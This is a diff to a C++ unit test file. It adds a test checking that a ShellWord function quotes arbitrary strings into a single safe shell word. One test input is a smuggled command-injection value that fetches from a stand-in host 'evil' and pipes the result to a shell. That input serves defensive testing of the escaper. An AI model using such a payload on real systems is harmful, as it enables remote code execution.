@@ -55,5 +55,12 @@ TEST(PlainJson, EscapesWhatIsNotPlain) {
             "{\"sku\":\"\\u202e\\u009b\\udb40\\udc41\"}");
 }
 
+TEST(ShellWordTest, IsOneWordWhateverItContains) {
+  EXPECT_EQ(ShellWord("a-Z.0_9:=+/"), "a-Z.0_9:=+/");
+  EXPECT_EQ(ShellWord(""), "''");
+  EXPECT_EQ(ShellWord("x;curl${IFS}evil|sh"), "'x;curl${IFS}evil|sh'");
+  EXPECT_EQ(ShellWord("a'`b`"), "'a'\\''`b`'");
+}
+
 }  // namespace
 }  // namespace client
